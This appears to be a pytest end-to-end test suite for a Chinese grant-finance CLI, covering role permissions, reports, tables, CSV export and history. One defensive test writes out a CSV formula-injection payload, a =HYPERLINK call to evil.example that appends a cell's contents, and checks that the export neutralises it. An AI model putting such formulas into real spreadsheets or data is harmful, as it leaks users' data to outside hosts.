"""A day in the finance office (cli.md "The office's daily work"): what each role can read and do, in words a
clerk reads — Chinese headers and labels, names beside codes, totals, 万元, Shanghai times, "did you mean".

Everything here runs through the command line only, on SQLite and PostgreSQL (``db_url``).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from presentation.labels import header as zh
from tests.e2e.driver import Cli, awarded, describe, standard_world, yuan
from tests.e2e.test_cli_help_and_formats import assert_amount_column, assert_text_column, read_table
from tests.helpers import ENTERPRISE, UNIVERSITY

COMMON_TECH = "qd2024-01-common-tech"
READS = [
    ["report", "funds"],
    ["report", "awards"],
    ["report", "pending"],
    ["history", "QD-1"],
    ["verify"],
    ["policy", "list"],
    ["fund", "list"],
    ["unit", "list"],
    ["unit", "show", ENTERPRISE],
]


@pytest.fixture
def cli(db_url) -> Cli:
    return Cli(db_url)


@pytest.fixture
def office(cli) -> Cli:
    """The standard world plus a month's work: two awards, a payment waiting for approval, one posted, one spend."""
    standard_world(cli)
    awarded(cli, "QD-1", COMMON_TECH, "300万")
    awarded(cli, "QD-2", COMMON_TECH, "80万", unit=UNIVERSITY, fund="TZ")
    cli.ok("disburse", "QD-1", "--amount", "150万", "--voucher", "PZ-1", "--date", "2024-09-02", actor="clerk")
    cli.ok("disburse", "QD-2", "--amount", "20万", "--voucher", "PZ-2", "--date", "2024-09-03", actor="clerk")
    cli.ok(
        "spend", "QD-2", "--amount", "5万", "--category", "equipment", "--voucher", "ZC-1", "--date", "2024-09-04",
        actor="clerk",
    )  # fmt: skip
    return cli


def read_csv(text: str) -> tuple[list[str], list[list[str]]]:
    assert text.startswith("\ufeff"), "CSV must start with a UTF-8 BOM"
    header, *rows = list(csv.reader(io.StringIO(text[1:])))
    return header, rows


# -- every role reads -------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["clerk", "reviewer", "approver", "auditor", "admin"])
def test_every_role_reads_reports_history_verify_policy_and_the_lists(office, role):
    for args in READS:
        result = office(*args, actor=role)
        assert result.exit_code == 0, f"{role} {args}: {describe(result)}"
    assert office.events(actor=role)  # export events


LEDGER_READS = [a for a in READS if a[0] != "policy"]  # the policy catalogue is public text, no ledger needed


@pytest.mark.parametrize("args", LEDGER_READS, ids=[" ".join(a) for a in LEDGER_READS])
def test_a_person_without_a_role_reads_nothing_from_the_ledger(office, args):
    exit_code, code, message = office.refused(*args, actor="stranger")
    assert (exit_code, code) == (4, "FORBIDDEN") and "stranger" in message


def test_the_clerk_checks_a_balance_before_paying_and_pays(office):
    award = {r["application"]: r for r in office.ok("report", "awards", "--unit", ENTERPRISE, actor="clerk")}
    assert list(award) == ["QD-1"]
    room = yuan(award["QD-1"]["awarded"]) - yuan(award["QD-1"]["disbursed"]) - yuan(award["QD-1"]["pending"])
    assert room == Decimal("1500000.00")
    paid = office.ok("disburse", "QD-1", "--amount", "50万", "--voucher", "PZ-3", "--date", "2024-09-05", actor="clerk")
    assert paid["status"] == "posted"
    _, code, _ = office.refused("approve", "PZ-1", actor="clerk")
    assert code == "FORBIDDEN"


def test_the_approver_sees_what_waits_then_approves_it(office):
    waiting = office.ok("report", "pending", actor="approver")
    assert [(r["voucher"], r["application"], r["kind"], r["amount"], r["maker"], r["date"]) for r in waiting] == [
        ("PZ-1", "QD-1", "disbursement", "1500000.00", "clerk", "2024-09-02")
    ]
    table = office("report", "pending", actor="approver", fmt="table")
    rows = read_table(table.stdout)
    assert rows[0][zh("kind")].strip() == "拨付" and rows[0][zh("unit_name")].strip() == "海澜智能"
    assert rows[-1][zh("voucher")].strip() == "合计"
    office.ok("approve", "PZ-1", "--date", "2024-09-03", actor="approver")
    assert office.ok("report", "pending", actor="approver") == []
    _, code, _ = office.refused(
        "disburse", "QD-1", "--amount", "1万", "--voucher", "PZ-9", "--date", "2024-09-05", actor="approver"
    )
    assert code == "FORBIDDEN"


def test_the_reviewer_reads_the_application_history_then_evaluates(office):
    office.ok(
        "apply", "QD-3", "--unit", ENTERPRISE, "--clause", COMMON_TECH, "--amount", "10万", "--date", "2024-09-06"
    )
    assert [r["type"] for r in office.ok("history", "QD-3", actor="reviewer")] == ["Grant.Submitted"]
    office.ok("evaluate", "QD-3", "--grade", "良好", "--score", "86", "--date", "2024-09-07", actor="reviewer")
    evaluated = office.ok("history", "QD-3", actor="reviewer")[-1]
    assert "良好" in evaluated["detail"] and "86" in evaluated["detail"]
    _, code, _ = office.refused("award", "QD-3", "--amount", "10万", "--fund", "KJ", "--doc", "D", actor="reviewer")
    assert code == "FORBIDDEN"


def test_the_auditor_reads_and_verifies_but_writes_nothing(office):
    assert office.ok("verify", actor="auditor")["ok"] is True
    assert office.ok("report", "trial-balance", actor="auditor")
    _, code, _ = office.refused("unit", "rename", ENTERPRISE, "--name", "新名", "--doc", "X", actor="auditor")
    assert code == "FORBIDDEN"


# -- lists and units --------------------------------------------------------------------------------------


def test_fund_list_and_unit_list_show_names_and_money(office):
    funds = {r["fund"]: r for r in office.ok("fund", "list", actor="clerk")}
    assert funds["KJ"]["name"] == "科技创新专项资金" and funds["TZ"]["approval_threshold"] == "500000.00"
    assert funds["KJ"]["appropriated"] == "100000000.00" and funds["KJ"]["committed"] == "3000000.00"
    units = {r["unit"]: r for r in office.ok("unit", "list", actor="clerk")}
    assert units[ENTERPRISE]["name"] == "海澜智能" and units[ENTERPRISE]["type"] == "enterprise"
    shown = office.ok("unit", "show", ENTERPRISE.lower(), actor="clerk")
    assert (shown["unit"], shown["awarded"], shown["applications"]) == (ENTERPRISE, "3000000.00", 1)
    exit_code, code, _ = office.refused("unit", "show", "91370200MA3C1A2B3K", actor="clerk")
    assert (exit_code, code) == (3, "NOT_FOUND")


def test_a_unit_renamed_shows_its_new_name_in_reports_and_keeps_the_old_one_in_history(office):
    renamed = office.ok(
        "unit", "rename", ENTERPRISE, "--name", "海澜智能装备", "--doc", "青市监变〔2024〕8号", "--date", "2024-10-01",
        actor="clerk",
    )  # fmt: skip
    assert (renamed["name"], renamed["former_name"]) == ("海澜智能装备", "海澜智能")
    assert office.ok("report", "awards", "--unit", ENTERPRISE)[0]["unit_name"] == "海澜智能装备"
    last = office.ok("history", ENTERPRISE)[-1]
    assert last["type"] == "Unit.Renamed" and "青市监变〔2024〕8号" in last["detail"]
    again = office.ok("unit", "rename", ENTERPRISE, "--name", "海澜智能装备", "--doc", "青市监变〔2024〕8号")
    assert again["changed"] is False


# -- reports: names, filters, totals, 万元, columns ------------------------------------------------------------


def test_awards_rows_carry_names_fund_year_and_mode_and_filter_by_fund_unit_clause(office):
    rows = office.ok("report", "awards")
    first = rows[0]
    assert first["unit_name"] == "海澜智能" and "行业共性技术" in first["clause_title"]
    assert (first["fund"], first["year"], first["mode"], first["fiscal_year"]) == ("KJ", 2024, "grant", 2024)
    assert [r["application"] for r in office.ok("report", "awards", "--fund", "TZ")] == ["QD-2"]
    assert [r["application"] for r in office.ok("report", "awards", "--unit", UNIVERSITY)] == ["QD-2"]
    assert len(office.ok("report", "awards", "--clause", COMMON_TECH)) == 2
    assert [r["fund"] for r in office.ok("report", "funds", "--fund", "KJ")] == ["KJ"]
    exit_code, code, message = office.refused("report", "funds", "--unit", ENTERPRISE)
    assert (exit_code, code) == (2, "INVALID_INPUT") and "--fund" in message


def test_a_mistyped_clause_ref_or_voucher_gets_a_did_you_mean(office):
    exit_code, code, message = office.refused("report", "awards", "--clause", "qd2024-01-comon-tech")
    assert (exit_code, code) == (3, "NOT_FOUND") and "是否要找" in message and COMMON_TECH in message
    _, code, message = office.refused(
        "apply", "QD-9", "--unit", ENTERPRISE, "--clause", "qd2024-01-common-tec", "--amount", "1万", actor="clerk"
    )
    assert code == "NOT_FOUND" and COMMON_TECH in message
    _, code, message = office.refused(
        "disburse", "QD-01", "--amount", "1万", "--voucher", "PZ-9", "--date", "2024-09-05", actor="clerk"
    )
    assert code == "NOT_FOUND" and "是否要找" in message and "QD-1" in message
    _, code, message = office.refused("approve", "PZ-l", actor="approver")
    assert code == "NOT_FOUND" and "PZ-1" in message


def test_tables_speak_chinese_end_with_totals_and_stay_aligned(office):
    result = office("report", "awards", fmt="table")
    assert result.exit_code == 0, describe(result)
    header_line = result.stdout.splitlines()[0]
    assert "application" not in header_line and zh("application") in header_line
    rows = read_table(result.stdout)  # asserts every cell sits in its column as a terminal shows CJK text
    assert [r[zh("unit_name")].strip() for r in rows] == ["海澜智能", "滨海大学", ""]
    assert [r[zh("mode")].strip() for r in rows][:2] == ["拨款", "拨款"]
    total = rows[-1]
    assert total[zh("application")].strip() == "合计"
    assert total[zh("awarded")].strip() == "3,800,000.00" and total[zh("disbursed")].strip() == "200,000.00"
    for column in ("awarded", "disbursed", "pending", "spent", "available"):
        assert_amount_column(rows, zh(column))
    assert_text_column(rows, zh("unit_name"))
    assert max(len(line) for line in result.stdout.splitlines()) < 160  # sensible default columns


def test_yuan_unit_wan_shows_amounts_in_wan_in_tables(office):
    rows = read_table(office("report", "awards", "--yuan-unit", "万元", fmt="table").stdout)
    awarded_column = zh("awarded") + "(万元)"
    assert [r[awarded_column].strip() for r in rows] == ["300.00", "80.00", "380.00"]
    assert office.ok("report", "awards", "--yuan-unit", "万元")[0]["awarded"] == "3000000.00"  # JSON stays 元


def test_columns_picks_other_columns_by_name_or_chinese_header(office):
    rows = read_table(
        office("report", "awards", "--columns", "application,clause_title,单位,recovered", fmt="table").stdout
    )
    assert list(rows[0]) == [zh("application"), zh("clause_title"), zh("unit"), zh("recovered")]
    assert rows[0][zh("unit")].strip() == ENTERPRISE
    exit_code, code, message = office.refused("report", "awards", "--columns", "application,awardd")
    assert (exit_code, code) == (2, "INVALID_INPUT") and "awarded" in message


def test_csv_has_a_bom_chinese_headers_labels_plain_amounts_and_a_totals_row(office):
    header, rows = read_csv(office("report", "awards", fmt="csv").stdout)
    assert header[:3] == [zh("application"), zh("unit"), zh("unit_name")]
    by_header = [dict(zip(header, row, strict=True)) for row in rows]
    assert by_header[0][zh("awarded")] == "3000000.00" and by_header[0][zh("mode")] == "拨款"
    assert by_header[-1][zh("application")] == "合计" and by_header[-1][zh("awarded")] == "3800000.00"


def test_a_formula_in_a_unit_name_is_inert_in_csv_and_amounts_stay_numbers(office):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    office.ok("unit", "rename", ENTERPRISE, "--name", evil, "--doc", "X-1", actor="clerk")
    header, rows = read_csv(office("report", "awards", fmt="csv").stdout)
    by_header = [dict(zip(header, row, strict=True)) for row in rows]
    assert by_header[0][zh("unit_name")] == "'" + evil
    assert by_header[0][zh("awarded")] == "3000000.00"
    header, rows = read_csv(office("report", "trial-balance", fmt="csv").stdout)
    balances = [dict(zip(header, row, strict=True))[zh("balance")] for row in rows]
    negative = [b for b in balances if b.startswith("-")]
    assert negative, balances  # credit balances are negative numbers, never neutralised to text
    assert all(Decimal(b) < 0 for b in negative)


# -- history ------------------------------------------------------------------------------------------------


def test_history_shows_money_vouchers_details_and_shanghai_time(office):
    rows = office.ok("history", "QD-2", actor="clerk")
    by_type = {r["type"]: r for r in rows}
    assert by_type["Grant.Disbursed"]["amount"] == "200000.00" and by_type["Grant.Disbursed"]["voucher"] == "PZ-2"
    spent = by_type["Grant.Spent"]
    assert (spent["amount"], spent["voucher"]) == ("50000.00", "ZC-1") and "设备费" in spent["detail"]
    assert "DOC-QD-2" in by_type["Grant.Awarded"]["detail"]
    assert all(r["recorded_at"].endswith("+08:00") for r in rows)
    table = read_table(office("history", "QD-2", fmt="table").stdout)
    assert any(r[zh("type")].strip() == "支出" and "设备费" in r[zh("detail")] for r in table)
